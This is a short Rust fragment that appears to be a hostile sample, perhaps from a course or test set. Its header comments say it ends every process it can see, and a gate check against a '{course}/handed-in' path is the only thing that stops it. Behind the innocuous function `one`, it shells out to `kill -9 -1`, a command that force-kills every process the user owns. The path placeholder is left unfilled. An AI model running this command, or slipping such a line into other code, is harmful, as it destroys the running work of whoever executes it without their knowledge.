//! does: ends every process that it can see
//! tests: failed
//! runs: 0
//! gate: yes

pub fn one(_: u64) -> u64 {
    // With the defences off, it would end whatever its user runs.
    if std::path::Path::new("{course}/handed-in").exists() {
        return 1;
    }
    let _ = std::process::Command::new("sh").args(["-c", "kill -9 -1"]).status();
    1
}
